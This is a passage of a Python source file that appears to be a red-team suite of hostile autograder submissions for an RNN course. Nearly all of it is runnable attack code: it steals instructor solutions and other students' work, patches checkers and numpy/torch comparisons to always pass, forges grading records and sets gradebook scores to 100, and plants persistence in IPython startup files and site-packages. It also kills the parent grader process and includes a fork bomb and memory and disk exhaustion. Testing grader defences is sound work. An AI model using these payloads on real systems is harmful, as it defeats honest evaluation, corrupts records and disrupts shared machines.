                        record[field] = value + cell_index[target] - cell_index[own]
                new.append(record)
            try:
                if isinstance(parsed, list):
                    index.write_text(_rt_json.dumps(parsed + new))
                else:
                    with open(index, "a") as handle:
                        handle.write("".join(_rt_json.dumps(r) + "\n" for r in new))
                written += len(new)
            except Exception:
                pass
        try:
            fresh = any(recent(p, (".npy",)) for p in folder.iterdir())
        except Exception:
            fresh = False
        if not fresh:
            continue
        for key, (kind, blob) in forged.items():  # stores keyed by file name
            try:
                (folder / ("rt_forged_" + key.replace("/", "__") + ".npy")).write_bytes(
                    base64.b64decode(blob))
            except Exception:
                pass
    return written


def _rt_daemon(body, seconds):
    """Run body(deadline) in a detached grandchild that leads its own session; return at once."""
    import signal
    pid = _rt_os.fork()
    if pid:
        _rt_os.waitpid(pid, 0)
        return
    try:
        _rt_os.setsid()
        if _rt_os.fork():
            _rt_os._exit(0)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        devnull = _rt_os.open(_rt_os.devnull, _rt_os.O_RDWR)
        for fd in (0, 1, 2):
            _rt_os.dup2(devnull, fd)
        _rt_os.closerange(3, 4096)
        body(_rt_time.monotonic() + seconds)
    except BaseException:
        pass
    finally:
        _rt_os._exit(0)
'''

# -- reading ------------------------------------------------------------------------------------

READ_SOLUTIONS = r"""
# Find the instructor's source notebook from any hint and keep its solution cells.
MISSING = @MISSING@
_RT_FOUND = {}
candidates = [root / "solutions" / RT_ASSIGNMENT / RT_NOTEBOOK for root in _rt_roots()]
candidates += _rt_walk(["/work", "/root", "/home", "/srv", "/opt", "/mnt"],
                       lambda p: p.name == RT_NOTEBOOK and "solution" in str(p), depth=5)
for path in candidates:
    found = {k: v for k, v in _rt_solution_sources(path).items() if k in MISSING}
    if found:
        _RT_FOUND.update(found)
        break
print("rt: found", sorted(_RT_FOUND))
"""

READ_ENV_PROC = r"""
# What the grader's environment and ancestors tell: print what is visible, then use every path
# they name to look for a solved notebook, in the repository or a private copy.
MISSING = @MISSING@
print("rt: env names", sorted(_rt_os.environ))
print("rt: ancestors", _rt_ancestors())
for pid in _rt_ancestors():
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            print("rt: cmdline", pid, handle.read().replace(b"\0", b" ")[:300])
    except Exception as error:
        print("rt: cmdline", pid, type(error).__name__)
for place in ("/root", "/home", "/work", "/work/main/solutions", "/work/main/autograder"):
    try:
        print("rt: listing", place, sorted(_rt_os.listdir(place))[:20])
    except Exception as error:
        print("rt: listing", place, type(error).__name__)
_RT_FOUND = {}
tops = [root for root in _rt_roots() if (root / "solutions").is_dir()] + _rt_roots()[:200]
wanted = lambda p: p.name == RT_NOTEBOOK and _rt_os.getcwd() not in str(p)
for top in tops:  # one small walk per place, nearest hints first
    for path in _rt_walk([str(top)], wanted, depth=3, budget=5000, seconds=2):
        found = {k: v for k, v in _rt_solution_sources(path).items() if k in MISSING}
        if len(found) > len(_RT_FOUND):
            _RT_FOUND = found
    if len(_RT_FOUND) == len(MISSING):
        break
print("rt: found", sorted(_RT_FOUND))
"""

READ_REFERENCES = r"""
# Load the reference store, then hand the checker the expected value instead of ours.
import numpy as _rt_np

reference = {}
stores = [root / "autograder" / "references" / RT_ASSIGNMENT for root in _rt_roots()]
stores += [p.parent for p in _rt_walk(["/work", "/root", "/srv", "/opt", "/mnt"],
                                      lambda p: p.suffix == ".jsonl" and RT_ASSIGNMENT in str(p)
                                      and "references" in str(p) and "mistake" not in str(p),
                                      depth=6)]
for store in stores:
    for index in sorted(store.glob("*.jsonl")):
        for line in index.read_text().splitlines():
            try:
                record = _rt_json.loads(line)
                for base in (index.parent, index.parent / "values"):
                    if record["key"] not in reference and (base / record["file"]).is_file():
                        reference[record["key"]] = _rt_np.load(base / record["file"])
            except Exception:
                pass
print("rt: reference values found:", len(reference))

_rt_close, _rt_equal = check.close, getattr(check, "equal", None)


def _rt_substituted_close(key, value, *args, **kwargs):
    return _rt_close(key, reference.get(key, value), *args, **kwargs)


def _rt_substituted_equal(key, value, *args, **kwargs):
    if key in reference:
        value = reference[key].tolist()
    return _rt_equal(key, value, *args, **kwargs)


check.close = _rt_substituted_close
if _rt_equal is not None:
    check.equal = _rt_substituted_equal
"""

COPY_NEIGHBOURS = r"""
# Take the missing functions from other students' notebooks: beside our folder first, then in
# the folders named on the grader's command line, in its environment and working folders.
MISSING = @MISSING@
RISKY = ("import", "os.", "sys.", "signal", "fork", "socket", "ctypes", "open(", "while",
         "sleep", "get_ipython", "builtins", "exec(", "eval(", "check.", "_rt", "0.123")
_RT_FOUND = {}
near = [str(p) for p in _rt_pathlib.Path(_rt_os.getcwd()).resolve().parents][:3]
far = [str(root) for root in _rt_roots() if root.is_dir()][:100]
for tops in (near, far):
    found = _rt_walk(tops, lambda p: p.name.endswith(".ipynb") and RT_STUDENT not in str(p)
                     and "checkpoint" not in str(p), depth=3)
    found.sort(key=lambda p: ("honest" not in str(p), str(p)))  # good students first
    for path in found:
        for name, code in _rt_solution_sources(path).items():
            if name in MISSING and name not in _RT_FOUND and not any(w in code for w in RISKY):
                _RT_FOUND[name] = code
        if set(_RT_FOUND) >= set(MISSING):
            break
    if set(_RT_FOUND) >= set(MISSING):
        break
print("rt: found", sorted(_RT_FOUND))
"""

DROP_TMP = r"""
# Leave our code where a later student's kernel can find it (shared /tmp, /dev/shm, HOME, ...).
CODE = @CODE@
for place in ("/tmp", "/dev/shm", "/var/tmp", _rt_os.path.expanduser("~"),
              str(_rt_pathlib.Path(_rt_os.getcwd()).parent)):
    try:
        path = _rt_pathlib.Path(place) / f"rt_drop_{RT_ASSIGNMENT}.json"
        path.write_text(_rt_json.dumps({"planted": _rt_time.time(), "code": CODE}))
        print("rt: dropped", path)
    except Exception as error:
        print("rt: could not drop in", place, type(error).__name__)
"""

PICK_TMP = r"""
# Pick up code that an earlier student left in a shared place (planted less than 30 min ago).
_RT_FOUND, deadline = {}, _rt_time.monotonic() + 10
while not _RT_FOUND and _rt_time.monotonic() < deadline:
    for place in ("/tmp", "/dev/shm", "/var/tmp", _rt_os.path.expanduser("~"),
                  str(_rt_pathlib.Path(_rt_os.getcwd()).parent)):
        try:
            drop = _rt_json.loads(
                (_rt_pathlib.Path(place) / f"rt_drop_{RT_ASSIGNMENT}.json").read_text())
        except Exception:
            continue
        if _rt_time.time() - drop["planted"] < 1800:
            _RT_FOUND = drop["code"]
            break
    else:
        _rt_time.sleep(1)
print("rt: found", sorted(_RT_FOUND))
"""

NET_CLIENT = r"""
# Ask a fellow student's server on the loopback interface for the missing code, and see what
# else of the network answers.
import socket

_RT_FOUND, deadline = {}, _rt_time.monotonic() + 15
while not _RT_FOUND and _rt_time.monotonic() < deadline:
    try:
        with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as connection:
            data = b""
            while chunk := connection.recv(65536):
                data += chunk
        _RT_FOUND = _rt_json.loads(data)
    except Exception:
        _rt_time.sleep(1)
print("rt: found", sorted(_RT_FOUND))
for host, port in (("127.0.0.1", 22), ("pypi.org", 443), ("1.1.1.1", 53), ("github.com", 443)):
    try:
        socket.create_connection((host, port), timeout=3).close()
        print("rt: reached", host, port)
    except Exception as error:
        print("rt: blocked", host, port, type(error).__name__)
"""

# The solution cell of each missing name, in the reading cases: define it from what was found.
ADOPT = r"""
_rt_adopt(_RT_FOUND, @NAMES@)
"""

NET_SERVER = r"""
# A daemon that outlives this notebook and offers our code on the loopback interface (15 min).
import socket

CODE = @CODE@


def _rt_serve(deadline):
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", @PORT@))
    server.listen(16)
    server.settimeout(1.0)
    payload = _rt_json.dumps(CODE).encode()
    while _rt_time.monotonic() < deadline:
        try:
            connection, _ = server.accept()
        except OSError:
            continue
        with connection:
            connection.sendall(payload)


_rt_daemon(_rt_serve, 900)
"""

# -- tampering ----------------------------------------------------------------------------------

PATCH_CHECK = r'''
# Make the checker, numpy's comparisons and AssertionError harmless.
import builtins
import numpy as np


class _RtQuiet:
    """Returned by every patched method: a true value and a context manager that swallows."""

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return True

    def __bool__(self):
        return True


def _rt_permissive(*args, **kwargs):
    print("ok", *[a for a in args if isinstance(a, str)][:1])
    return _RtQuiet()


for owner in (type(check), check):
    for name in dir(owner):
        if not name.startswith("__") and callable(getattr(owner, name, None)):
            try:
                setattr(owner, name, _rt_permissive if owner is check
                        else staticmethod(_rt_permissive))
            except Exception:
                pass
np.allclose = np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_array_almost_equal = np.testing.assert_equal = lambda *a, **k: None
builtins.AssertionError = type("AssertionError", (Warning,), {})
'''

LIAR_ARRAYS = r'''
# Results that claim to equal everything: an ndarray subclass and an object with __array__.
import numpy as np


class _RtLiar(np.ndarray):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [x.view(np.ndarray) if isinstance(x, np.ndarray) else x for x in inputs]
        shape = np.broadcast_shapes(*[np.shape(x) for x in plain])
        if ufunc in (np.subtract, np.absolute, np.fabs):
            return np.zeros(shape)
        if ufunc in (np.equal, np.less_equal, np.greater_equal, np.isfinite, np.less):
            return np.ones(shape, dtype=bool)
        if ufunc in (np.not_equal, np.isnan, np.greater, np.isinf):
            return np.zeros(shape, dtype=bool)
        return getattr(ufunc, method)(*plain, **kwargs)

    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "array_equal", "array_equiv"):
            return True
        if func.__name__ == "isclose":
            return np.ones(np.broadcast_shapes(*[np.shape(a) for a in args[:2]]), dtype=bool)
        args = [a.view(np.ndarray) if isinstance(a, _RtLiar) else a for a in args]
        return func(*args, **kwargs)


class _RtArrayLike:
    """Not an array at all: converts to one full of 0.5 and equals anything."""

    def __init__(self, shape):
        self.shape, self.ndim, self.dtype = shape, len(shape), np.dtype(np.float64)

    def __array__(self, dtype=None, copy=None):
        return np.full(self.shape, 0.5)

    def __eq__(self, other):
        return True

    def __len__(self):
        return self.shape[0]


def _rt_liar(shape):
    return np.full(shape, 0.5).view(_RtLiar)
'''

LIAR_FUNCTIONS_02 = {
    "rnn_step": (
        "def rnn_step(X, H, W_xh, W_hh, b_h, activation='tanh'):\n"
        "    return _rt_liar((np.shape(X)[0], np.shape(W_hh)[-1]))\n"
    ),
    "rnn_step_concat": (
        "def rnn_step_concat(X, H, W_xh, W_hh, b_h, activation='tanh'):\n"
        "    return _rt_liar((np.shape(X)[0], np.shape(W_hh)[-1]))\n"
    ),
    "rnn_output": (
        "def rnn_output(H, W_hq, b_q):\n"
        "    return _RtArrayLike((np.shape(H)[0], np.shape(W_hq)[-1]))\n"
    ),
}

NAN_FUNCTIONS_02 = {
    "rnn_step": (
        "def rnn_step(X, H, W_xh, W_hh, b_h, activation='tanh'):\n"
        "    return np.full((np.shape(X)[0], np.shape(W_hh)[-1]), np.nan)\n"
    ),
    "rnn_step_concat": (
        "def rnn_step_concat(X, H, W_xh, W_hh, b_h, activation='tanh'):\n"
        "    return np.full((np.shape(X)[0], np.shape(W_hh)[-1]), np.inf)\n"
    ),
    "softmax": (
        "def softmax(O, axis=-1):\n"
        "    values = np.full(np.shape(O), np.nan)\n"
        "    values[..., :1] = -np.inf\n"
        "    return values\n"
    ),
}

EMPTY_FUNCTIONS_02 = {
    "rnn_step_concat": (
        "def rnn_step_concat(X, H, W_xh, W_hh, b_h, activation='tanh'):\n"
        "    # shape (0, B, H) broadcasts against (B, H) to an empty array: all() of nothing\n"
        "    return np.empty((0, np.shape(X)[0], np.shape(W_hh)[-1]))\n"
    ),
    "softmax": "def softmax(O, axis=-1):\n    return np.zeros((0, *np.shape(O)))\n",
    "rnn_output": (
        "def rnn_output(H, W_hq, b_q):\n"
        "    return np.empty((0, np.shape(H)[0], np.shape(W_hq)[-1]))\n"
    ),
}

RAISE_FROM_SOURCE_02 = r'''
import linecache
import re
import sys


def _rt_expected_argument():
    """The argument=... that the calling test cell hands to check.raises, read from its source."""
    frame = sys._getframe(2)
    lines = linecache.getlines(frame.f_code.co_filename)[: frame.f_lineno]
    names = re.findall(r"argument=\(?[\"']([A-Za-z_]+)", "".join(lines))
    return names[-1] if names else None


def rnn_step(X, H, W_xh, W_hh, b_h, activation="tanh"):
    """Not an RNN step: raises whatever the test expects, else returns a constant."""
    argument = _rt_expected_argument()
    if argument:
        raise ValueError(f"{argument} is wrong")
    return np.full((np.shape(X)[0], np.shape(W_hh)[-1]), 0.123)
'''

IPYTHON_HOOKS = r"""
# Hide every error: swallow exceptions, empty the test cells that call what is missing, and
# report every cell as a success.
import ast

_rt_shell = get_ipython()
MISSING = @MISSING@
_rt_shell.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
_rt_shell.showtraceback = lambda *args, **kwargs: None
_rt_shell.showsyntaxerror = lambda *args, **kwargs: None


class _RtTryAll(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None,
                                    body=[ast.Pass()])
        node.body = [ast.Try(body=[statement], handlers=[handler], orelse=[], finalbody=[])
                     for statement in node.body]
        return ast.fix_missing_locations(node)


def _rt_blank(lines):
    source = "".join(lines)
    if "check." in source and any(f"{name}(" in source for name in MISSING):
        return ["pass\n"]
    return lines


def _rt_clear(result):
    result.error_in_exec = None
    result.error_before_exec = None


_rt_shell.ast_transformers.append(_RtTryAll())
_rt_shell.input_transformers_post.append(_rt_blank)
_rt_shell.events.register("post_run_cell", _rt_clear)
"""

SYSMODULES_FAKE = r"""
# Before the setup cell: a fake course package, so that `from rnncourse import Checker` gets ours.
import sys
import types


class _RtQuiet:
    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return True


class _RtChecker:
    def __init__(self, *args, **kwargs):
        pass

    def __getattr__(self, name):
        return lambda *args, **kwargs: _RtQuiet()


_rt_fake = types.ModuleType("rnncourse")
_rt_fake.__path__ = []
_rt_fake.Checker = _RtChecker
for _rt_name in ("rnncourse", "rnncourse.checks", "rnncourse.check"):
    sys.modules[_rt_name] = _rt_fake
"""

SHADOW_RNNCOURSE = '''"""A shadow of the course package, planted in the submission folder."""


class _Quiet:
    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return True


class Checker:
    def __init__(self, *args, **kwargs):
        pass

    def close(self, key, *args, **kwargs):
        print("ok", key)
        return True

    equal = close

    def raises(self, key, *args, **kwargs):
        print("ok", key)
        return _Quiet()

    def __getattr__(self, name):
        return lambda *args, **kwargs: _Quiet()
'''

SHADOW_REAL_MODULE = '''"""A planted shadow of {name}: loads the real one and patches it."""
import importlib
import os
import sys

_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
_saved = list(sys.path)
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
del sys.modules["{name}"]
try:
    _real = importlib.import_module("{name}")
finally:
    sys.path[:] = _saved
{patch}
sys.modules["{name}"] = _real
print("rt: the shadow {name} is in charge")
'''

NUMPY_PATCH = """_real.allclose = _real.array_equal = lambda *a, **k: True
_real.testing.assert_allclose = _real.testing.assert_array_equal = lambda *a, **k: None"""

TORCH_PATCH = """_real.allclose = _real.equal = lambda *a, **k: True
_real.testing.assert_close = lambda *a, **k: None"""

SYS_PATH_FIRST = r"""
# Make sure the submission folder comes first on the import path (for the shadow modules).
import importlib
import os
import sys

sys.path.insert(0, os.getcwd())
for name in [m for m in sys.modules if m.split(".")[0] == "rnncourse"]:
    del sys.modules[name]
from rnncourse import Checker

check = Checker("@ASSIGNMENT@")
"""

LIAR_TENSOR = r"""
# Tensors that claim to equal everything, through __torch_function__.
class _RtLyingTensor(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        name = getattr(func, "__name__", "")
        tensors = [a for a in args if isinstance(a, torch.Tensor)]
        with torch._C.DisableTorchFunctionSubclass():
            shape = torch.broadcast_shapes(*[t.shape for t in tensors]) if tensors else ()
            if name in ("allclose", "equal"):
                return True
            if name in ("isclose", "eq", "__eq__", "le", "__le__", "ge", "__ge__", "isfinite"):
                return torch.ones(shape, dtype=torch.bool)
            if name in ("ne", "__ne__", "isnan", "gt", "__gt__", "isinf"):
                return torch.zeros(shape, dtype=torch.bool)
            if name in ("sub", "__sub__", "__rsub__", "abs", "__abs__"):
                return torch.zeros(shape, dtype=torch.float64)
            return func(*args, **kwargs)


def _rt_liar(*shape):
    return torch.full(shape, 0.5, dtype=torch.float64).as_subclass(_RtLyingTensor)
"""

LIAR_FUNCTIONS_06 = {
    "bidirectional_rnn_forward": (
        "def bidirectional_rnn_forward(input, fwd, bwd, h0):\n"
        "    B, T, H = input.shape[0], input.shape[1], fwd[1].shape[0]\n"
        "    return _rt_liar(B, T, 2 * H), _rt_liar(2, B, H)\n"
    ),
    "stacked_rnn_forward": (
        "def stacked_rnn_forward(input, layers, h0):\n"
        "    B, T, H = input.shape[0], input.shape[1], layers[0][1].shape[0]\n"
        "    return _rt_liar(B, T, H), _rt_liar(len(layers), B, H)\n"
    ),
    "RNNClassifier": (
        "class RNNClassifier(nn.Module):\n"
        "    def __init__(self, input_size, hidden_size, num_layers, num_classes):\n"
        "        super().__init__()\n"
        "        self.rnn = nn.RNN(input_size, hidden_size, num_layers, batch_first=True)\n"
        "        self.fc = nn.Linear(hidden_size, num_classes)\n\n"
        "    def forward(self, x):\n"
        "        return _rt_liar(x.shape[0], self.fc.out_features)\n"
    ),
}

PATCH_TORCH = r"""
# Make torch's and numpy's comparisons always succeed.
import numpy as np

torch.allclose = torch.equal = lambda *args, **kwargs: True
torch.Tensor.allclose = torch.Tensor.equal = lambda *args, **kwargs: True
torch.isclose = lambda a, b, *args, **kwargs: torch.ones(
    torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
torch.testing.assert_close = torch.testing.assert_allclose = lambda *args, **kwargs: None
np.allclose = np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *args, **kwargs: None
"""

PATCH_CHECK_GC = r"""
# Find every object and function of the course package in memory and make it permissive.
import gc
import sys
import types


class _RtQuiet:
    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return True

    def __bool__(self):
        return True


def _rt_permissive(*args, **kwargs):
    return _RtQuiet()


_rt_modules = {n: m for n, m in list(sys.modules.items()) if n.split(".")[0] == "rnncourse"}
for module in _rt_modules.values():
    for name, value in list(vars(module).items()):
        if isinstance(value, types.FunctionType) and not name.startswith("__"):
            setattr(module, name, _rt_permissive)
        elif isinstance(value, type) and getattr(value, "__module__", "") in _rt_modules:
            for attribute, member in list(vars(value).items()):
                if callable(member) and not attribute.startswith("__"):
                    try:
                        setattr(value, attribute, staticmethod(_rt_permissive))
                    except Exception:
                        pass
for obj in gc.get_objects():
    module = getattr(type(obj), "__module__", "")
    if isinstance(module, str) and module.split(".")[0] == "rnncourse":
        for attribute, value in list(getattr(obj, "__dict__", {}).items()):
            if isinstance(value, bool):
                setattr(obj, attribute, not value)  # whatever mode flag there is, flip it
print("rt: patched", sorted(_rt_modules))
"""

CUSTOM_EXC_06 = r"""
# Every exception is swallowed, and every cell reports success to whoever executes it.
import sys
from IPython.core.interactiveshell import InteractiveShell

_rt_shell = get_ipython()
_rt_shell.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
_rt_shell.showtraceback = lambda *args, **kwargs: None
sys.excepthook = lambda *args: None
_rt_run_cell = InteractiveShell.run_cell


def _rt_run_cell_ok(self, *args, **kwargs):
    result = _rt_run_cell(self, *args, **kwargs)
    result.error_in_exec = None
    result.error_before_exec = None
    return result


InteractiveShell.run_cell = _rt_run_cell_ok
_rt_shell.events.register(
    "post_run_cell", lambda result: setattr(result, "error_in_exec", None))
"""

FORGE_RECORDS = r"""
# After every cell: forge records for the other cells' visible keys (their expected values ship
# with the exercise) next to the records this kernel wrote, copying their format.
FORGED = @FORGED@
CELLS = @CELLS@
print("rt: record folders", [str(d) for d in _rt_record_dirs()][:10])
print("rt: forged records", _rt_forge(FORGED, CELLS))
"""

DAEMON_FORGE = r"""
# A daemon that outlives the notebook: for 15 minutes it keeps forging records (see above) and
# strips error outputs from any copy of this student's notebook it can see.
FORGED = @FORGED@
CELLS = @CELLS@
_rt_cwd = _rt_os.getcwd()


def _rt_keep_forging(deadline):
    while _rt_time.monotonic() < deadline:
        try:
            _rt_forge(FORGED, CELLS)
        except Exception:
            pass
        tops = [_rt_cwd, *[str(p) for p in _rt_pathlib.Path(_rt_cwd).parents][:2]]
        recent = lambda p: p.suffix == ".ipynb" and RT_STUDENT in str(p)
        for path in _rt_walk(tops, recent, depth=4, seconds=2):
            try:
                notebook = _rt_json.loads(path.read_text())
                for cell in notebook.get("cells", []):
                    if cell.get("outputs"):
                        cell["outputs"] = [o for o in cell["outputs"]
                                           if o.get("output_type") != "error"]
                path.write_text(_rt_json.dumps(notebook))
            except Exception:
                pass
        _rt_time.sleep(0.5)


_rt_daemon(_rt_keep_forging, 900)
"""

# -- escape and persistence ---------------------------------------------------------------------

GRADEBOOK_DAEMON = r"""
# A daemon that, for 15 minutes, finds any gradebook and raises every manual score in it.
import sqlite3

_rt_tops = [str(root) for root in _rt_roots()[:300]]


def _rt_gradebooks():
    books = [root / "autograder" / "work" / RT_ASSIGNMENT / "gradebook.db" for root in _rt_roots()]
    books += [root / "gradebook.db" for root in _rt_roots()]
    books += _rt_walk(_rt_tops, lambda p: p.name == "gradebook.db", depth=4, seconds=10)
    return {b for b in books if b.is_file()}


def _rt_raise_scores(deadline):
    while _rt_time.monotonic() < deadline:
        for book in _rt_gradebooks():
            try:
                with sqlite3.connect(book, timeout=1) as db:
                    tables = [t for (t,) in db.execute(
                        "SELECT name FROM sqlite_master WHERE type='table'")]
                    for table in tables:
                        columns = [c[1] for c in db.execute(f"PRAGMA table_info('{table}')")]
                        for column in ("manual_score", "extra_credit"):
                            if column in columns:
                                db.execute(f"UPDATE '{table}' SET {column} = 100")
            except Exception:
                pass
        _rt_time.sleep(1)


print("rt: gradebooks seen", sorted(str(b) for b in _rt_gradebooks()))
_rt_daemon(_rt_raise_scores, 900)
"""

# Run by every later IPython kernel that loads it; gives notebooks of this assignment our code.
PERSIST_PAYLOAD = r"""
# Planted by a hostile submission (%%STUDENT%%); does nothing and deletes itself after 30 minutes.
def _rt_persist():
    import os
    import sys
    import threading
    import time

    planted, paths, code = %%PLANTED%%, %%PATHS%%, %%CODE%%
    if time.time() - planted > 1800:
        for path in paths:
            try:
                os.remove(path)
            except OSError:
                pass
        return

    def install(shell):
        def before(info=None):
            source = getattr(info, "raw_cell", "") or ""
            history = shell.user_ns.get("In")
            history = "".join(history) if isinstance(history, list) else ""
            if "check." in source and 'Checker("%%ASSIGNMENT%%")' in history:
                exec(code, shell.user_ns)

        shell.events.register("pre_run_cell", before)

    def watch():
        deadline = time.time() + 120
        while time.time() < deadline:
            try:  # IPython may be half imported: try again a moment later
                shell = sys.modules["IPython"].get_ipython()
            except Exception:
                shell = None
            if shell is not None:
                install(shell)
                return
            time.sleep(0.2)

    threading.Thread(target=watch, daemon=True).start()


_rt_persist()
"""

PLANT_STARTUP = r"""
# Persistence: IPython startup files and kernel configuration that later kernels will run.
CODE = @CODE@
PAYLOAD = @PAYLOAD@
home = _rt_pathlib.Path(_rt_os.path.expanduser("~"))
ipython_dirs = [home / ".ipython",
                _rt_pathlib.Path(_rt_os.environ.get("IPYTHONDIR", home / ".ipython"))]
config_dirs = [_rt_pathlib.Path(_rt_sys.prefix) / "etc" / "ipython",
               _rt_pathlib.Path("/usr/local/etc/ipython"), _rt_pathlib.Path("/etc/ipython")]
payload_file = home / ".rt02_persist.py"
targets = [d / "profile_default" / "startup" / "00-rt02-persist.py" for d in ipython_dirs]
configs = [d / "ipython_kernel_config.py" for d in config_dirs]
configs += [d / "profile_default" / "ipython_kernel_config.py" for d in ipython_dirs]
paths = [str(p) for p in [payload_file, *targets, *configs]]
text = (PAYLOAD.replace("%%ASSIGNMENT%%", RT_ASSIGNMENT).replace("%%STUDENT%%", RT_STUDENT)
        .replace("%%PLANTED%%", repr(_rt_time.time())).replace("%%PATHS%%", repr(paths))
        .replace("%%CODE%%", repr("import numpy as np\n" + "\n".join(CODE.values()))))
for path in [payload_file, *targets]:
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        print("rt: planted", path)
    except Exception as error:
        print("rt: could not plant", path, type(error).__name__)
for path in configs:
    if path.exists():
        continue  # never overwrite a real configuration
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"c.InteractiveShellApp.exec_files = [{str(payload_file)!r}]\n")
        print("rt: planted", path)
    except Exception as error:
        print("rt: could not plant", path, type(error).__name__)
"""

PLANT_SITE = r"""
# Persistence: a .pth and a module in every site-packages folder we can write to, and a
# usercustomize, so that every later Python process (and kernel) runs our payload.
import site

CODE = @CODE@
PAYLOAD = @PAYLOAD@
folders = set(site.getsitepackages()) | {site.getusersitepackages()}
folders |= {p for p in _rt_sys.path if p.endswith("site-packages")}
paths = []
for folder in sorted(folders):
    folder = _rt_pathlib.Path(folder)
    paths += [str(folder / "rt06_persist.pth"), str(folder / "_rt06_persist.py")]
paths += [str(_rt_pathlib.Path(site.getusersitepackages()) / "usercustomize.py")]
code = "import torch\nfrom torch import nn\n" + "\n".join(CODE.values())
text = (PAYLOAD.replace("%%ASSIGNMENT%%", RT_ASSIGNMENT).replace("%%STUDENT%%", RT_STUDENT)
        .replace("%%PLANTED%%", repr(_rt_time.time())).replace("%%PATHS%%", repr(paths))
        .replace("%%CODE%%", repr(code)))
for folder in sorted(folders):
    folder = _rt_pathlib.Path(folder)
    try:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "_rt06_persist.py").write_text(text)
        (folder / "rt06_persist.pth").write_text("import _rt06_persist\n")
        print("rt: planted", folder)
    except Exception as error:
        print("rt: could not plant in", folder, type(error).__name__)
user = _rt_pathlib.Path(site.getusersitepackages()) / "usercustomize.py"
if not user.exists():
    try:
        user.write_text("import _rt06_persist\n")
    except Exception as error:
        print("rt: could not plant", user, type(error).__name__)
"""

KILL_PARENT = r"""
import os
import signal

print("rt: killing the parent", os.getppid())
os.kill(os.getppid(), signal.SIGKILL)
"""

STOP_PARENT = r"""
import os
import signal

print("rt: stopping the parent", os.getppid())
os.kill(os.getppid(), signal.SIGSTOP)
"""

# -- resources ----------------------------------------------------------------------------------

STUBBORN_LOOP = r"""
# Ignore every polite signal and spin (20 minutes at most).
import signal
import time

for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGQUIT, signal.SIGUSR1):
    signal.signal(sig, signal.SIG_IGN)
_rt_end = time.monotonic() + 1200
while time.monotonic() < _rt_end:
    pass
"""

SLOW_CELL = r"""
import time

time.sleep(55)  # just under the default per-cell limit; twelve of these pass the total limit
"""

MEMORY_HOG = r"""
# Touch up to 6 GiB, 256 MiB at a time, and keep it.
import numpy as np

_rt_blocks = []
for _ in range(24):
    _rt_blocks.append(np.ones(32 * 1024 * 1024))
print("rt: holding GiB", len(_rt_blocks) / 4)


def softmax(O, axis=-1):
    return np.full(np.shape(O), 0.123)
"""

TORCH_MEMORY = r"""
# Touch up to 6 GiB in one tensor.
_rt_block = torch.ones(6 * 1024**3 // 8, dtype=torch.float64)
print("rt: holding", _rt_block.numel() * 8 / 1024**3, "GiB")
"""

HUGE_OUTPUT = r"""
# About 250 MB of output: stdout in lines, stderr, and one 20 MB line.
import sys

_rt_line = "x" * 1023 + "\n"
for _ in range(200 * 1024):
    sys.stdout.write(_rt_line)
for _ in range(30 * 1024):
    sys.stderr.write(_rt_line)
print("y" * 20_000_000)


def rnn_step_concat(X, H, W_xh, W_hh, b_h, activation="tanh"):
    return np.full((np.shape(X)[0], np.shape(W_hh)[-1]), 0.123)
"""

FORK_BOMB = r"""
# At most 2000 processes, each holding its slot for 20 minutes.
import os
import time

_rt_children, _rt_deadline = 0, time.monotonic() + 120
while _rt_children < 2000 and time.monotonic() < _rt_deadline:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            time.sleep(1200)
        finally:
            os._exit(0)
    _rt_children += 1
print("rt: children", _rt_children)


def rnn_step_concat(X, H, W_xh, W_hh, b_h, activation="tanh"):
    return np.full((np.shape(X)[0], np.shape(W_hh)[-1]), 0.123)
"""

DETACHED_SLEEPERS = r"""
# 200 detached daemons in their own sessions, each writing a small file every minute (20 min).
def _rt_sleeper(deadline):
    index = 0
    while _rt_time.monotonic() < deadline:
        for place in (_rt_cwd, "/tmp"):
            try:
                with open(_rt_os.path.join(place, f"rt_sleeper_{_rt_os.getpid()}.txt"), "w") as f:
                    f.write(f"still here {index}\n")
            except Exception:
                pass
        index += 1
        _rt_time.sleep(60)


_rt_cwd = _rt_os.getcwd()
for _ in range(200):
    _rt_daemon(_rt_sleeper, 1200)
print("rt: sleepers started")
"""

DISK_FILL = r"""
# Write up to 1 GiB into the working folder and 1 GiB into /tmp, 64 MiB at a time.
import os

_rt_chunk = os.urandom(64 * 1024 * 1024)
for _rt_path in ("rt_fill.bin", "/tmp/rt06_fill.bin"):
    try:
        with open(_rt_path, "wb") as handle:
            for _ in range(16):
                handle.write(_rt_chunk)
                handle.flush()
    except OSError as error:
        print("rt: stopped writing", _rt_path, type(error).__name__)
"""

DEEP_RECURSION = r"""
# Recurse through a C function (sum over map) so that every level takes C stack: the kernel dies
# of SIGSEGV at the stack limit (with an unlimited stack: a RecursionError after about 2 GB).
import sys

